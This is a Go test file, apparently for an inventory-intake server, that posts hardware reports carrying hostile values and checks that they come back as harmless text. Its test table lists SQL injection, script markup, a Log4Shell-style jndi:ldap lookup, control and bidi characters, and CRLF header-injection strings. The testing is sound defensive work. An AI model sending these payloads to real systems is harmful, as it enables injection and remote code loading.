package intake_test

import (
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"muster/internal/mustertest"
)

// TestHostileTexts puts what could hurt somebody into every value of a report, and reads it back as the text
// that it is.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	value := regexp.MustCompile(`>[^<>\n]+</`)
	base := sample(t, "synthetic-win11-laptop-ocs.xml")
	tests := []struct{ what, text, want string }{ // in the computer's document
		{"SQL", `'; DROP TABLE hardwares; --`, `'; DROP TABLE hardwares; --`},
		{"markup", `&lt;script&gt;alert(1)&lt;/script&gt;&amp;#0;`, `&lt;script&gt;alert(1)&lt;/script&gt;&amp;#0;`},
		{"formats", `%s%n{{.}}${jndi:ldap://example.com/a}`, `%s%n{{.}}${jndi:ldap://example.com/a}`},
		{"control characters", "a\x01\x1b[2J&#2;b", "a\ufffd\ufffd[2J\ufffdb"},
		{"bytes", "\xff\xfe\xc0\xaf\xed\xa0\x80", "\ufffd"},
		{"other directions", "\u202etxt.exe\u2066\u200b", "txt.exe"},
		{"no characters", "\ufffe\uffff\U0010ffff", "\ufffd"},
		{"long texts", strings.Repeat("é", 7_000), strings.Repeat("é", 255)},
		{"lines", "a\r\n\r\nSet-Cookie: b\tc", "Set-Cookie: b"},
		{"numbers", "99999999999999999999999999", "99999999999999999999999999"},
		{"negative numbers", "-9223372036854775808", "-9223372036854775808"},
		{"numbers that are none", "NaN", "NaN"},
	}
	mustertest.Each(t, func(t *testing.T, db mustertest.Database) {
		s := start(t, db, nil)
		a, c := newAgent(t, s), s.Admin()
		for i, test := range tests {
			body := value.ReplaceAllStringFunc(base, func(found string) string {
				if found == ">INVENTORY</" {
					return found
				}
				return ">" + test.text + "</"
			})
			a.post(deflated(body)).expect(t, test.what, http.StatusOK, taken)
			got := c.Get(fmt.Sprintf("/hardwares/%d.xml", i+1)).Body
			if !utf8.ValidString(got) || strings.ContainsAny(got, "\x00\x01\x02\x1b\ufffe\uffff") ||
				strings.Contains(got, "<script>") || !strings.Contains(got, test.want) {
				t.Errorf("%s: got\n%s\nwant a document of harmless text with %q", test.what, got, test.want)
			}
		}
		a.post(deflated(base)).expect(t, "the report as it was", http.StatusOK, taken)
		a.header = []string{"GLPI-Agent-ID", "\xff\xfe" + strings.Repeat("x", 12_000), "User-Agent",
			"\xe9" + strings.Repeat("y", 3_000)}
		a.post(deflated(small(1))).expect(t, "headers that are too long, and no UTF-8", http.StatusOK, taken)
		for _, path := range []string{
			"/softwares.xml", "/hardwares/1/softwares.xml", "/audits.xml", "/hardwares.xml?include=softwares",
			"/printers.xml",
		} {
			if got := c.Get(path); got.Status >= 500 || !utf8.ValidString(got.Body) ||
				strings.Contains(got.Body, "<script>") {
				t.Errorf("%s: got %d %s", path, got.Status, got.Body)
			}
		}
		if log := s.Log.String(); strings.Contains(log, "ERROR") || strings.Contains(log, "DROP TABLE") ||
			strings.Contains(log, "jndi") {
			t.Errorf("got the log\n%s\nwant no errors, and nothing of the reports", log)
		}
	})
}
